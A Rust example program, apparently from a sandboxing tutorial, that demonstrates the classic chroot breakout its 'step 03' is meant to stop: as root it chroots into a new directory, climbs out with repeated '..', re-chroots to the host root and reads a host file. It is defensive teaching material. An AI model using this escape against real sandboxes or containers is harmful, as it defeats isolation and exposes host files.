//! The misbehaviour that step 03 stops: `chroot_breakout FILE` walks out of a chroot and reads a file of the host.
//!
//! chroot(2) says so itself: it "does not change the current working directory". So a second chroot leaves this process
//! standing outside its own root, and from there `..` leads up without end. Only root (inside) can do it.
//!
//! It needs a root that has it: `rootfs-scripts/host.sh /tmp/root target/debug/examples/chroot_breakout`; then
//! `target/debug/examples/step03_first_try /tmp/root chroot_breakout /etc/hostname`, and the same in step03.

use nix::unistd::{chdir, chroot};

fn main() {
    let file = std::env::args().nth(1).expect("a file of the host");
    let directory = format!("breakout-{}", std::process::id());
    let walk = || -> std::io::Result<()> {
        chdir("/tmp")?;
        std::fs::create_dir(&directory)?;
        chroot(directory.as_str())?; // and we stand outside it
        std::fs::remove_dir(&directory)?;
        for _ in 0..64 {
            chdir("..")?;
        }
        chroot(".")?;
        Ok(())
    };
    // Whoever cannot set out has shown nothing.
    walk().expect("the walk out of the root");
    match std::fs::read_to_string(&file) {
        Ok(text) => print!("broke out: {text}"),
        Err(error) => println!("still inside: {error}"),
    }
}
